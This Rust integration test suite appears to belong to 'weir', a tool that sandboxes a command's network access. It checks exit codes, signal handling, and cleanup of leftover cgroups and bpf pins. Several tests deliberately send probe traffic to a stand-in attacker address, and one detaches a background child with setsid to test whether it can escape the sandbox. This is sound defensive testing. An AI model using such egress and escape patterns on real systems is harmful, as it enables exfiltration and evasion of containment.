//! Exit codes and signals, and that nothing stays behind which the next start does not clear.

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};
use std::time::Duration;

use anyhow::{Result, ensure};
use nix::sys::signal::Signal;
use weir_tests::lab::{Lab, addresses};
use weir_tests::profile::Profile;
use weir_tests::programs::Program;

const LIMIT: Duration = Duration::from_secs(60);

/// Every cgroup below a cgroup2 mount and every pin below bpffs whose path names weir.
fn traces() -> Result<BTreeSet<PathBuf>> {
    let mounts = fs::read_to_string("/proc/self/mounts")?;
    let mut found = BTreeSet::new();
    for line in mounts.lines() {
        let mut fields = line.split(' ');
        let (Some(place), Some(kind)) = (fields.nth(1), fields.next()) else { continue };
        if matches!(kind, "cgroup2" | "bpf") {
            collect(Path::new(place), &mut found);
        }
    }
    Ok(found)
}

fn collect(folder: &Path, found: &mut BTreeSet<PathBuf>) {
    // A cgroup may be gone by the time it is looked at.
    for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
        let path = entry.path();
        let is_folder = entry.file_type().is_ok_and(|kind| kind.is_dir());
        let is_pin = !path.starts_with("/sys/fs/cgroup");
        if path.to_string_lossy().contains("weir") && (is_folder || is_pin) {
            found.insert(path.clone());
        }
        if is_folder {
            collect(&path, found);
        }
    }
}

/// What is there now and was not before; the agent's own top folder may stay, empty.
fn left(before: &BTreeSet<PathBuf>) -> Result<Vec<PathBuf>> {
    let empty = |path: &PathBuf| {
        let mut children = fs::read_dir(path).into_iter().flatten().flatten();
        !children.any(|child| child.path().is_dir() || !path.starts_with("/sys/fs/cgroup"))
    };
    let after = traces()?;
    let fresh = after.difference(before).filter(|path| {
        let depth = path.components().count();
        let top = path.ends_with("weir") && depth <= 5 && empty(path);
        !top && !belongs_to_a_living_run(path)
    });
    Ok(fresh.cloned().collect())
}

/// Runs beside this one, of other tests or people, name theirs `run-PID-…`.
fn belongs_to_a_living_run(path: &Path) -> bool {
    path.components().any(|part| {
        let name = part.as_os_str().to_string_lossy();
        let pid = name.strip_prefix("run-").and_then(|rest| rest.split('-').next());
        pid.is_some_and(|pid| Path::new("/proc").join(pid).exists())
    })
}

fn profile() -> String {
    Profile::deny_all().domains(&["files.example.com"]).text()
}

#[test]
fn the_exit_code_is_the_commands() -> Result<()> {
    let lab = Lab::new()?;
    for (script, code) in [("exit 0", 0), ("exit 7", 7), ("exit 125", 125), ("kill -KILL $$", 137)]
    {
        lab.weir().profile(&profile())?.run(&["sh", "-c", script])?.expect_code(code)?;
    }
    Ok(())
}

#[test]
fn a_violation_fails_the_run_only_when_asked_to() -> Result<()> {
    let lab = Lab::new()?;
    let probe = Program::Probe.path()?;
    let script = format!("{probe} udp-sendto {} 4000; true", addresses::ATTACKER.v4);
    let argv = ["sh", "-c", &script];
    lab.weir().profile(&profile())?.run(&argv)?.expect_code(0)?;
    let strict = lab.weir().profile(&profile())?.option("--fail-on-violation");
    strict.run(&argv)?.expect_code(125)?;
    strict.run(&["true"])?.expect_code(0)?;
    strict.run(&["sh", "-c", "exit 3"])?.expect_code(3)?;
    Ok(())
}

#[test]
fn signals_reach_the_command() -> Result<()> {
    let lab = Lab::new()?;
    for (signal, name) in
        [(Signal::SIGTERM, "TERM"), (Signal::SIGINT, "INT"), (Signal::SIGUSR1, "USR1")]
    {
        let script =
            format!("trap 'echo got {name}; exit 9' {name}; echo up; while :; do sleep 0.1; done");
        let started = lab.weir().profile(&profile())?.start(&["bash", "-c", &script])?;
        started.process().wait_for_line(LIMIT, |line| line == "up")?;
        started.process().signal(signal)?;
        let outcome = started.finish(LIMIT)?.expect_code(9)?;
        ensure!(outcome.output.stdout.contains("got"), "{name}: {}", outcome.describe());
    }
    let started = lab.weir().profile(&profile())?.start(&["sh", "-c", "echo up; exec sleep 60"])?;
    started.process().wait_for_line(LIMIT, |line| line == "up")?;
    started.process().signal(Signal::SIGTERM)?;
    started.finish(LIMIT)?.expect_code(128 + 15)?;
    Ok(())
}

#[test]
fn a_run_leaves_nothing() -> Result<()> {
    let lab = Lab::new()?;
    let before = traces()?;
    for script in ["true", "exit 3", "kill -SEGV $$", "sleep 0.2 & exit 0"] {
        lab.weir().profile(&profile())?.run(&["sh", "-c", script])?;
        let left = left(&before)?;
        ensure!(left.is_empty(), "after `{script}`: {left:?}");
    }
    ensure!(
        lab.client.processes()?.is_empty(),
        "processes are left: {:?}",
        lab.client.processes()?
    );
    Ok(())
}

#[test]
fn background_children_do_not_outlive_the_run_unwatched() -> Result<()> {
    let lab = Lab::new()?;
    lab.attacker.listen(4000)?;
    let watch = lab.watch(lab.attacker.host())?;
    let probe = Program::Probe.path()?;
    let address = addresses::ATTACKER.v4;
    let script = format!(
        "rm -f up; setsid sh -c 'touch up; sleep 1; {probe} udp-sendto {address} 4000' >/dev/null 2>&1 & \
         until [ -e up ]; do sleep 0.05; done; exit 0"
    );
    let argv = ["bash", "-c", &script];
    lab.client.run(&argv)?.expect_code(0)?;
    std::thread::sleep(Duration::from_secs(2));
    ensure!(!watch.take()?.is_empty(), "without weir nothing was sent");
    lab.weir().profile(&profile())?.run(&argv)?.expect_code(0)?;
    std::thread::sleep(Duration::from_secs(2));
    ensure!(watch.take()?.is_empty(), "a child was set free by the end of the run");
    Ok(())
}

#[test]
fn a_killed_weir_sets_nothing_free_and_the_next_start_clears() -> Result<()> {
    let lab = Lab::new()?;
    lab.attacker.listen(4000)?;
    let watch = lab.watch(lab.attacker.host())?;
    let before = traces()?;
    let probe = Program::Probe.path()?;
    let address = addresses::ATTACKER.v4;
    let send = format!("{probe} udp-sendto {address} 4000");
    let script = format!("{send}; echo up; while :; do {send}; sleep 0.1; done");
    let started = lab.weir().profile(&profile())?.start(&["sh", "-c", &script])?;
    started.process().wait_for_line(LIMIT, |line| line == "up")?;
    started.process().signal(Signal::SIGKILL)?;
    // Long enough for ten more sends of a command that lives on.
    std::thread::sleep(Duration::from_secs(1));
    let arrived = watch.take()?;
    ensure!(arrived.is_empty(), "the command got free: {arrived:?}");
    drop(started);
    lab.weir().profile(&profile())?.run(&["true"])?.expect_code(0)?;
    let left = left(&before)?;
    ensure!(left.is_empty(), "the next start left {left:?}");
    Ok(())
}

#[test]
fn the_summary_is_for_people_and_on_standard_error() -> Result<()> {
    let lab = Lab::new()?;
    let probe = Program::Probe.path()?;
    let script = format!(
        "curl -sS -o /dev/null https://files.example.com/; {probe} tcp {} 4000 >/dev/null; echo only",
        addresses::ATTACKER.v4
    );
    let outcome = lab.weir().profile(&profile())?.run(&["sh", "-c", &script])?;
    ensure!(outcome.output.stdout == "only\n", "{}", outcome.describe());
    for word in ["files.example.com", "443", "203.0.113.66", "4000", "curl", "probe"] {
        ensure!(outcome.output.stderr.contains(word), "no {word} in {}", outcome.describe());
    }
    Ok(())
}
